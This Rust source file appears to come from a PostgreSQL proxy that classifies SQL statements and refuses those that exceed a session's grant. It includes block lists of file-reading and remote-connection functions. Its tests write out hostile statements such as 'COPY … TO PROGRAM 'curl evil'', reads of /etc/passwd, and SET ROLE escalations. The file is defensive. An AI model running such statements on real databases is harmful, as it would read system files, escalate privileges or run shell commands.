//! Statement guardrails: what each access level may run. The database enforces the grant
//! too (each level logs in as its own role, read sessions are read-only); this is the
//! proxy's half, refusing with SQLSTATE 42501 before anything reaches the database.
//!
//! The classification fails closed: a statement sqlparser cannot parse is treated as
//! unknown, which only an `admin` grant may run.

use std::ops::ControlFlow;
use std::sync::Arc;

use sqlparser::ast::{visit_relations, visit_statements, CopyTarget, Statement};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

use dashmap::DashMap;

pub use crate::config::Guardrails;
use crate::policy::AccessLevel;
use crate::sql::StatementKind;

/// What a statement does, for the guardrails.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Class {
    /// Reads data or catalog (SELECT, SHOW, COPY … TO STDOUT, EXPLAIN).
    Read,
    /// Harmless session and transaction control (BEGIN, COMMIT, SET search_path, …).
    Session,
    /// Changes data (INSERT, UPDATE, DELETE, MERGE, COPY FROM STDIN, CALL, …).
    Write,
    /// Changes schema (CREATE, ALTER, DROP, TRUNCATE, GRANT, …).
    Ddl,
    /// Could widen what the grant allows (SET ROLE, ALTER SYSTEM, COPY … PROGRAM, DO, …).
    Escalation(&'static str),
    /// sqlparser cannot parse it.
    Unknown,
    /// Would make the proxy's reading of later statements differ from the server's (and so
    /// hide statements from the audit): refused at every level.
    Forbidden(&'static str),
}

/// A refusal: the rule's name and the message the client sees.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Refusal {
    pub rule: &'static str,
    pub message: String,
}

/// What the proxy knows about one statement's text: its audit kind, its class, and the
/// facts per-database rules look at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Analysis {
    pub kind: StatementKind,
    pub class: Class,
    pub facts: Facts,
}

/// Facts of a parsed statement for per-database rules.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Facts {
    pub drop: bool,
    pub truncate: bool,
    pub delete_without_where: bool,
    pub update_without_where: bool,
    /// Every table or view it names, lowercased, as written (`items`, `hr.payroll`).
    pub relations: Arc<[String]>,
    /// Settings it changes with SET or set_config, lowercased.
    pub settings: Arc<[String]>,
}

fn facts_of(statement: &Statement) -> Facts {
    let mut relations = Vec::new();
    let _ = visit_relations(statement, |name| {
        relations.push(name.to_string().to_lowercase().replace('"', ""));
        ControlFlow::<()>::Continue(())
    });
    Facts {
        drop: matches!(statement, Statement::Drop { .. }),
        truncate: matches!(statement, Statement::Truncate { .. }),
        delete_without_where: matches!(statement, Statement::Delete(d) if d.selection.is_none()),
        update_without_where: matches!(
            statement,
            Statement::Update {
                selection: None,
                ..
            }
        ),
        relations: relations.into(),
        settings: Arc::from([]),
    }
}

/// The settings a statement changes: `SET [SESSION|LOCAL] name …` or `set_config('name', …)`.
fn settings_changed(words: &[String], tokens: &[Token]) -> Vec<String> {
    let mut out = Vec::new();
    match words
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>()
        .as_slice()
    {
        ["set", "session" | "local", name, ..] | ["set", name, ..] => out.push((*name).to_owned()),
        _ => {}
    }
    let significant: Vec<&Token> = tokens
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    for w in significant.windows(3) {
        if let [Token::Word(f), Token::LParen, Token::SingleQuotedString(name)] = w {
            if f.value.eq_ignore_ascii_case("set_config") {
                out.push(name.to_lowercase());
            }
        }
    }
    out
}

/// Per-database rules, on top of what the access level allows; they bind every level.
pub fn check_rules(rules: &Guardrails, facts: &Facts) -> Result<(), Refusal> {
    let refuse = |rule: &'static str, what: String| {
        Err(Refusal {
            rule,
            message: format!("lockbox: {what} is not allowed on this database (rule {rule})"),
        })
    };
    if rules.deny_drop && facts.drop {
        return refuse("deny_drop", "DROP".into());
    }
    if rules.deny_truncate && facts.truncate {
        return refuse("deny_truncate", "TRUNCATE".into());
    }
    if rules.deny_delete_without_where && facts.delete_without_where {
        return refuse("delete_without_where", "DELETE without WHERE".into());
    }
    if rules.deny_update_without_where && facts.update_without_where {
        return refuse("update_without_where", "UPDATE without WHERE".into());
    }
    if let Some(relation) = facts.relations.iter().find(|r| {
        rules
            .off_limits
            .iter()
            .any(|pattern| off_limits_match(pattern, r))
    }) {
        return refuse("off_limits", format!("touching {relation}"));
    }
    Ok(())
}

/// `table` matches that table in any schema, `schema.table` exactly, `schema.*` every
/// table of the schema.
fn off_limits_match(pattern: &str, relation: &str) -> bool {
    let pattern = pattern.to_lowercase();
    match pattern.strip_suffix(".*") {
        Some(schema) => relation
            .strip_prefix(schema)
            .is_some_and(|rest| rest.starts_with('.')),
        None if pattern.contains('.') => relation == pattern,
        None => relation == pattern || relation.rsplit('.').next() == Some(pattern.as_str()),
    }
}

/// Everything the grant and the database's rules say about one analysed statement.
pub fn check_analysis(
    access: AccessLevel,
    rules: &Guardrails,
    analysis: &Analysis,
) -> Result<(), Refusal> {
    check_class(access, analysis.class)?;
    check_rules(rules, &analysis.facts)
}

/// Analyses one statement's text: one tokenizer pass and one parse.
pub fn analyze(statement: &str) -> Analysis {
    if statement.len() > MAX_ANALYZED_LEN {
        // Parsing megabytes of SQL would stall the session; such a statement is unknown,
        // which only an admin grant may run. It is still audited in full.
        return Analysis {
            kind: StatementKind::Unknown,
            class: Class::Unknown,
            facts: Facts::default(),
        };
    }
    let dialect = PostgreSqlDialect {};
    let tokens = Tokenizer::new(&dialect, statement)
        .tokenize()
        .unwrap_or_default();
    let words = leading_words(&tokens);
    let parsed = Parser::parse_sql(&dialect, statement).or_else(|e| {
        match without_operator_syntax(&tokens) {
            // psql and pg_dump write `a OPERATOR(pg_catalog.=) b`, which sqlparser does not
            // read; for classification it means `a = b`.
            Some(plain) => Parser::parse_sql(&dialect, &plain),
            None => Err(e),
        }
    });
    let ast = match &parsed {
        Ok(list) if list.len() == 1 => list.first(),
        _ => None,
    };
    let kind = ast
        .map(crate::sql::kind_of)
        .unwrap_or(StatementKind::Unknown);
    let mut facts = ast.map(facts_of).unwrap_or_default();
    facts.settings = settings_changed(&words, &tokens).into();
    let class = if changes_lexing(&words, &tokens) {
        Class::Forbidden("lexer_setting")
    } else if let Some(rule) = escalation_by_words(&words) {
        Class::Escalation(rule)
    } else if calls_escaping_function(&tokens) {
        Class::Escalation("escaping_function")
    } else {
        match (ast, &parsed) {
            // LOCK's mode decides; sqlparser's reading of it varies by dialect.
            _ if words.first().map(String::as_str) == Some("lock") => {
                classify_unparsed(&words).unwrap_or(Class::Unknown)
            }
            (Some(statement), _) => classify_ast(statement),
            (None, Ok(_)) => Class::Unknown,
            (None, Err(_)) => classify_unparsed(&words).unwrap_or(Class::Unknown),
        }
    };
    Analysis { kind, class, facts }
}

/// The statement with every `OPERATOR(schema.op)` written as plain `op`, if it has any.
fn without_operator_syntax(tokens: &[Token]) -> Option<String> {
    let is_operator_keyword =
        |t: &Token| matches!(t, Token::Word(w) if w.value.eq_ignore_ascii_case("operator"));
    if !tokens.iter().any(is_operator_keyword) {
        return None;
    }
    let mut out = String::new();
    let mut i = 0;
    while i < tokens.len() {
        if is_operator_keyword(&tokens[i]) && matches!(tokens.get(i + 1), Some(Token::LParen)) {
            let close = tokens[i..].iter().position(|t| *t == Token::RParen)? + i;
            // The operator is what follows the last period inside the parentheses.
            let inner = &tokens[i + 2..close];
            let start = inner
                .iter()
                .rposition(|t| *t == Token::Period)
                .map_or(0, |p| p + 1);
            out.push(' ');
            for t in &inner[start..] {
                out.push_str(&t.to_string());
            }
            out.push(' ');
            i = close + 1;
        } else {
            out.push_str(&tokens[i].to_string());
            i += 1;
        }
    }
    Some(out)
}

/// Statements longer than this are not parsed at all.
const MAX_ANALYZED_LEN: usize = 1024 * 1024;

/// Statements longer than this are analysed every time rather than cached.
const CACHEABLE_LEN: usize = 8 * 1024;
/// The cache is emptied when it holds this many statements.
const CACHE_ENTRIES: usize = 50_000;

/// Analyses by statement text, shared by all sessions: a statement sent again (prepared
/// statements, ORMs, monitoring queries) costs one hash lookup instead of a parse.
/// It memoizes a pure function of the text, so sharing it process-wide is safe.
pub fn analyze_cached(statement: &str) -> Analysis {
    static CACHE: std::sync::LazyLock<DashMap<Box<str>, Analysis>> =
        std::sync::LazyLock::new(DashMap::new);
    if statement.len() > CACHEABLE_LEN {
        return analyze(statement);
    }
    if let Some(hit) = CACHE.get(statement) {
        return hit.clone();
    }
    let analysis = analyze(statement);
    if CACHE.len() >= CACHE_ENTRIES {
        CACHE.clear();
    }
    CACHE.insert(statement.into(), analysis.clone());
    analysis
}

/// Whether `access` may run `statement` (one statement's text).
pub fn check(access: AccessLevel, statement: &str) -> Result<(), Refusal> {
    check_class(access, analyze_cached(statement).class)
}

/// Whether `access` may run a statement of `class`.
pub fn check_class(access: AccessLevel, class: Class) -> Result<(), Refusal> {
    let refuse = |rule: &'static str, what: &str| {
        Err(Refusal {
            rule,
            message: format!(
                "lockbox: {what} is not allowed under a {} grant (rule {rule})",
                access.as_str()
            ),
        })
    };
    match (access, class) {
        (_, Class::Forbidden(rule)) => refuse(rule, "changing how statements are read"),
        (AccessLevel::Admin, _) => Ok(()),
        (_, Class::Read | Class::Session) => Ok(()),
        (AccessLevel::Write, Class::Write | Class::Ddl) => Ok(()),
        (_, Class::Escalation(rule)) => refuse(rule, "this statement"),
        (AccessLevel::Read, Class::Write) => refuse("read_only", "changing data"),
        (AccessLevel::Read, Class::Ddl) => refuse("read_only", "changing the schema"),
        (_, Class::Unknown) => refuse("unparsable", "a statement lockbox cannot parse"),
    }
}

/// Functions that read files, run other SQL, reach other servers or change settings and
/// roles: only an admin grant may call them.
const ESCAPING_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "query_to_xmlschema",
    "cursor_to_xml",
];

/// Settings that change how the server splits and reads query text. The proxy must read
/// statements exactly as the server does, or a statement could hide from the audit.
const LEXER_SETTINGS: &[&str] = &[
    "standard_conforming_strings",
    "backslash_quote",
    "client_encoding",
    "names",
];

/// SET/RESET of a lexer setting, or set_config of one.
fn changes_lexing(words: &[String], tokens: &[Token]) -> bool {
    let w: Vec<&str> = words.iter().map(String::as_str).collect();
    let target = match w.as_slice() {
        ["set", "session" | "local", name, ..] | ["set", name, ..] | ["reset", name, ..] => {
            Some(*name)
        }
        _ => None,
    };
    if target.is_some_and(|name| LEXER_SETTINGS.contains(&name)) {
        return true;
    }
    let significant: Vec<&Token> = tokens
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    significant.windows(3).any(|w| match w {
        [Token::Word(f), Token::LParen, Token::SingleQuotedString(name)]
            if f.value.eq_ignore_ascii_case("set_config") =>
        {
            LEXER_SETTINGS.contains(&name.to_lowercase().as_str())
        }
        _ => false,
    })
}

/// Client-only encodings whose multibyte characters can end in a backslash or quote byte
/// make the proxy and the server split a query string differently; they are refused.
pub fn client_encoding_is_safe(name: &str) -> bool {
    let normalized: String = name
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    !matches!(
        normalized.as_str(),
        "sjis"
            | "shiftjis"
            | "shiftjis2004"
            | "mskanji"
            | "win932"
            | "windows932"
            | "big5"
            | "win950"
            | "windows950"
            | "gbk"
            | "win936"
            | "windows936"
            | "cp936"
            | "uhc"
            | "win949"
            | "windows949"
            | "gb18030"
            | "johab"
    )
}

/// Whether a setting the server reports (ParameterStatus) keeps the proxy's reading of
/// query text the same as the server's.
pub fn reported_setting_is_safe(name: &str, value: &str) -> bool {
    match name {
        "standard_conforming_strings" => value.eq_ignore_ascii_case("on"),
        "client_encoding" => client_encoding_is_safe(value),
        _ => true,
    }
}

/// Settings that hold the grant in place.
const PROTECTED_SETTINGS: &[&str] = &[
    "role",
    "session_authorization",
    "default_transaction_read_only",
    "transaction_read_only",
];

pub fn classify(statement: &str) -> Class {
    analyze(statement).class
}

/// Statements sqlparser's PostgreSQL dialect does not parse but whose effect their first
/// words tell: COPY as sent on the wire (sqlparser expects the data inline) and the
/// maintenance commands.
fn classify_unparsed(words: &[String]) -> Option<Class> {
    match words.first().map(String::as_str) {
        Some("copy") => {}
        Some("vacuum" | "analyze" | "analyse" | "cluster" | "reindex") => {
            return Some(Class::Write)
        }
        // RESET of a setting that guards the grant or the lexer was caught before this.
        Some("reset") => return Some(Class::Session),
        // pg_dump takes ACCESS SHARE locks, the lock any SELECT takes.
        Some("lock") => {
            let access_share = words
                .windows(2)
                .any(|p| p[0] == "access" && p[1] == "share");
            return Some(if access_share {
                Class::Read
            } else {
                Class::Write
            });
        }
        Some("refresh") if words.get(1).map(String::as_str) == Some("materialized") => {
            return Some(Class::Write)
        }
        _ => return None,
    }
    let has = |w: &str| words.iter().any(|x| x == w);
    if has("program") {
        Some(Class::Escalation("copy_program"))
    } else if has("stdin") {
        Some(Class::Write)
    } else if has("stdout") {
        Some(Class::Read)
    } else {
        None
    }
}

/// The first words of a statement, lowercased, whitespace and comments skipped.
fn leading_words(tokens: &[Token]) -> Vec<String> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Word(w) => Some(w.value.to_lowercase()),
            Token::Whitespace(_) => None,
            other => Some(other.to_string().to_lowercase()),
        })
        .take(12)
        .collect()
}

fn escalation_by_words(words: &[String]) -> Option<&'static str> {
    let w: Vec<&str> = words.iter().map(String::as_str).collect();
    // Skip an optional SESSION/LOCAL after SET.
    let after_set = match w.as_slice() {
        ["set", "session" | "local", rest @ ..] if rest.first() != Some(&"authorization") => rest,
        ["set", rest @ ..] => rest,
        _ => &[][..],
    };
    match (w.as_slice(), after_set) {
        (["alter", "system", ..], _) => Some("alter_system"),
        (["load", ..], _) => Some("load"),
        (["do", ..], _) => Some("do_block"),
        (["create", "extension", ..], _) | (["create", "or", "replace", "extension", ..], _) => {
            Some("create_extension")
        }
        (["reset", "role" | "session", ..], _) => Some("role_change"),
        (["set", "session", "authorization", ..], _) => Some("role_change"),
        (_, ["role", ..]) => Some("role_change"),
        (_, [name, ..]) if PROTECTED_SETTINGS.contains(name) => Some("read_only_setting"),
        _ if opens_read_write(&w) => Some("read_write_transaction"),
        _ => None,
    }
}

/// `BEGIN … READ WRITE`, `START TRANSACTION … READ WRITE`, `SET [SESSION CHARACTERISTICS AS]
/// TRANSACTION … READ WRITE`.
fn opens_read_write(w: &[&str]) -> bool {
    let transactional = matches!(w.first(), Some(&"begin") | Some(&"start"))
        || (w.first() == Some(&"set") && w.contains(&"transaction"));
    transactional && w.windows(2).any(|p| p == ["read", "write"])
}

fn calls_escaping_function(tokens: &[Token]) -> bool {
    let significant: Vec<&Token> = tokens
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    significant.windows(3).any(|w| match w {
        // set_config is how pg_dump and drivers set search_path; only the settings that
        // hold the grant in place make it an escape. A name that is not a literal (pg_dump:
        // `set_config(name, …) FROM pg_settings`) is let through: the session's database
        // role still bounds what it can do, and the relay ends the session if the server
        // reports a lexer setting changing.
        [Token::Word(f), Token::LParen, Token::SingleQuotedString(name)]
            if f.value.eq_ignore_ascii_case("set_config") =>
        {
            PROTECTED_SETTINGS.contains(&name.to_lowercase().as_str())
        }
        [Token::Word(f), Token::LParen, _] if f.value.eq_ignore_ascii_case("set_config") => false,
        [Token::Word(f), Token::LParen, _] => {
            ESCAPING_FUNCTIONS.contains(&f.value.to_lowercase().as_str())
        }
        _ => false,
    })
}

fn classify_ast(statement: &Statement) -> Class {
    use Statement as S;
    match statement {
        S::Query(query) => {
            // SELECT … INTO creates a table; FOR UPDATE/SHARE takes row locks.
            let text = query.to_string().to_lowercase();
            if text.contains(" into ") && !text.contains(" into strict ") {
                return Class::Write;
            }
            if !query.locks.is_empty() {
                return Class::Write;
            }
            // WITH d AS (DELETE … RETURNING *) SELECT … is a write.
            let writes = visit_statements(query, |nested| match nested {
                Statement::Insert { .. }
                | Statement::Update { .. }
                | Statement::Delete { .. }
                | Statement::Merge { .. } => ControlFlow::Break(()),
                _ => ControlFlow::Continue(()),
            });
            if writes.is_break() {
                return Class::Write;
            }
            Class::Read
        }
        S::Explain {
            analyze, statement, ..
        } => {
            if *analyze {
                classify_ast(statement)
            } else {
                Class::Read
            }
        }
        S::ExplainTable { .. }
        | S::ShowVariable { .. }
        | S::ShowVariables { .. }
        | S::ShowStatus { .. }
        | S::ShowFunctions { .. }
        | S::ShowCreate { .. }
        | S::ShowColumns { .. }
        | S::ShowTables { .. }
        | S::ShowDatabases { .. }
        | S::ShowSchemas { .. }
        | S::ShowViews { .. }
        | S::ShowCollation { .. }
        | S::ShowObjects { .. }
        | S::ShowCharset { .. }
        | S::Fetch { .. }
        | S::Close { .. } => Class::Read,
        S::Declare { .. } => Class::Read,
        S::Copy { to, target, .. } => match target {
            CopyTarget::Program { .. } => Class::Escalation("copy_program"),
            CopyTarget::File { .. } => Class::Escalation("copy_file"),
            _ if *to => Class::Read,
            _ => Class::Write,
        },
        S::StartTransaction { .. }
        | S::Commit { .. }
        | S::Rollback { .. }
        | S::Savepoint { .. }
        | S::ReleaseSavepoint { .. }
        | S::Set(_)
        | S::Discard { .. }
        | S::Deallocate { .. }
        | S::LISTEN { .. }
        | S::UNLISTEN { .. } => Class::Session,
        S::Insert { .. }
        | S::Update { .. }
        | S::Delete { .. }
        | S::Merge { .. }
        | S::Call { .. }
        | S::Execute { .. }
        | S::Prepare { .. }
        | S::NOTIFY { .. }
        | S::LockTables { .. }
        | S::Analyze { .. }
        | S::Vacuum { .. } => Class::Write,
        S::Grant { .. } | S::Revoke { .. } | S::CreateRole { .. } | S::AlterRole { .. } => {
            Class::Ddl
        }
        _ => match crate::sql::kind_of(statement) {
            crate::sql::StatementKind::Ddl => Class::Ddl,
            // Anything else sqlparser knows but we have not placed: fail closed.
            _ => Class::Unknown,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes() {
        let check = |sql: &str, class: Class| assert_eq!(classify(sql), class, "{sql}");
        check("select * from t where a = 1", Class::Read);
        check(
            "SELECT count(*) FROM pg_catalog.pg_class c WHERE c.relkind = 'r'",
            Class::Read,
        );
        check("show search_path", Class::Read);
        check(
            "SELECT c.oid FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) \
             c.relnamespace WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S']) AND c.relname \
             OPERATOR(pg_catalog.~) '^(items)$' COLLATE pg_catalog.default",
            Class::Read,
        );
        check("explain select 1", Class::Read);
        check("explain analyze delete from t", Class::Write);
        check("copy t to stdout", Class::Read);
        check("copy t from stdin", Class::Write);
        check("begin", Class::Session);
        check(
            "SELECT pg_catalog.set_config('search_path', '', false)",
            Class::Read,
        );
        check(
            "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
            Class::Read,
        );
        check("begin read only", Class::Session);
        check("set search_path = public", Class::Session);
        check("insert into t values (1)", Class::Write);
        check("select * into t2 from t", Class::Write);
        check("select * from t for update", Class::Write);
        check(
            "with d as (delete from t returning *) select * from d",
            Class::Write,
        );
        check("with x as (select 1) select * from x", Class::Read);
        check("create table x (a int)", Class::Ddl);
        check("drop table t", Class::Ddl);
        check("truncate t", Class::Ddl);
        check("vacuum analyze pgbench_branches", Class::Write);
        check("refresh materialized view mv", Class::Write);
        check("frobnicate", Class::Unknown);
    }

    #[test]
    fn escalations_are_named() {
        let check = |sql: &str, rule: &'static str| {
            assert_eq!(classify(sql), Class::Escalation(rule), "{sql}")
        };
        check("SET ROLE postgres", "role_change");
        check("set local role postgres", "role_change");
        check("SET SESSION AUTHORIZATION postgres", "role_change");
        check("RESET ROLE", "role_change");
        check(
            "set default_transaction_read_only = off",
            "read_only_setting",
        );
        check(
            "SET SESSION default_transaction_read_only TO off",
            "read_only_setting",
        );
        check("set transaction_read_only = off", "read_only_setting");
        check("BEGIN READ WRITE", "read_write_transaction");
        check(
            "start transaction isolation level serializable, read write",
            "read_write_transaction",
        );
        check("SET TRANSACTION READ WRITE", "read_write_transaction");
        check(
            "set session characteristics as transaction read write",
            "read_write_transaction",
        );
        check("ALTER SYSTEM SET work_mem = '1GB'", "alter_system");
        check("COPY t TO PROGRAM 'curl evil'", "copy_program");
        check("copy t from '/etc/passwd'", "copy_file");
        check("CREATE EXTENSION dblink", "create_extension");
        check("LOAD 'auto_explain'", "load");
        check("DO $$ BEGIN PERFORM 1; END $$", "do_block");
        check(
            "select set_config('role', 'postgres', false)",
            "escaping_function",
        );
        check(
            "select pg_catalog.pg_read_file('/etc/passwd')",
            "escaping_function",
        );
        check("SELECT lo_import('/etc/passwd')", "escaping_function");
        check(
            "select * from dblink('host=x', 'delete from t') as t(a int)",
            "escaping_function",
        );
    }

    #[test]
    fn database_rules() {
        let rules = Guardrails {
            deny_drop: true,
            deny_truncate: true,
            deny_delete_without_where: true,
            deny_update_without_where: true,
            off_limits: vec!["payroll".into(), "hr.*".into(), "audit.log".into()],
        };
        let check = |sql: &str, expected: Option<&str>| {
            let got = check_rules(&rules, &analyze(sql).facts)
                .err()
                .map(|r| r.rule);
            assert_eq!(got, expected, "{sql}");
        };
        check("drop table t", Some("deny_drop"));
        check("truncate t", Some("deny_truncate"));
        check("delete from t", Some("delete_without_where"));
        check("delete from t where id = 1", None);
        check("update t set a = 1", Some("update_without_where"));
        check("update t set a = 1 where id = 2", None);
        check("select * from payroll", Some("off_limits"));
        check(
            "select * from public.payroll p join x on true",
            Some("off_limits"),
        );
        check("select * from hr.salaries", Some("off_limits"));
        check("select * from \"HR\".people", Some("off_limits"));
        check("select * from audit.log", Some("off_limits"));
        check("select * from audit.events", None);
        check("select * from hrx.people", None);
        check(
            "select * from t where id in (select id from payroll)",
            Some("off_limits"),
        );
        let none = Guardrails::default();
        assert!(check_rules(&none, &analyze("drop table t").facts).is_ok());
    }

    #[test]
    fn lexer_settings_are_refused_at_every_level() {
        for sql in [
            "SET standard_conforming_strings = off",
            "set session standard_conforming_strings to off",
            "RESET standard_conforming_strings",
            "SET backslash_quote = on",
            "SET client_encoding = 'SJIS'",
            "SET NAMES 'SJIS'",
            "select set_config('standard_conforming_strings', 'off', false)",
        ] {
            assert_eq!(classify(sql), Class::Forbidden("lexer_setting"), "{sql}");
            assert!(check(AccessLevel::Admin, sql).is_err(), "{sql}");
        }
        assert_eq!(
            classify("LOCK TABLE public.items IN ACCESS SHARE MODE"),
            Class::Read
        );
        assert_eq!(classify("LOCK TABLE items IN EXCLUSIVE MODE"), Class::Write);
    }

    #[test]
    fn grants() {
        let ok = |access, sql: &str| assert!(check(access, sql).is_ok(), "{access:?} {sql}");
        let no = |access, sql: &str, rule: &str| {
            let refusal = check(access, sql).expect_err(sql);
            assert_eq!(refusal.rule, rule, "{sql}");
            assert!(refusal.message.contains(rule));
        };
        ok(AccessLevel::Read, "select 1");
        no(AccessLevel::Read, "update t set a = 1", "read_only");
        no(AccessLevel::Read, "create table x (a int)", "read_only");
        no(AccessLevel::Read, "not sql at all", "unparsable");
        ok(AccessLevel::Write, "update t set a = 1");
        ok(AccessLevel::Write, "create index on t (a)");
        no(AccessLevel::Write, "set role postgres", "role_change");
        no(AccessLevel::Write, "not sql at all", "unparsable");
        ok(AccessLevel::Admin, "set role postgres");
        ok(AccessLevel::Admin, "not sql at all");
    }

    #[test]
    fn read_corpus_is_allowed() {
        let corpus = include_str!("../tests/corpus/read_allowed.sql");
        let statements = crate::sql::split_statements(corpus);
        assert!(
            statements.len() >= 45,
            "corpus has {} statements",
            statements.len()
        );
        for statement in statements {
            let verdict = check(AccessLevel::Read, statement);
            assert!(
                verdict.is_ok(),
                "refused under read: {verdict:?}\n{statement}"
            );
        }
    }
}
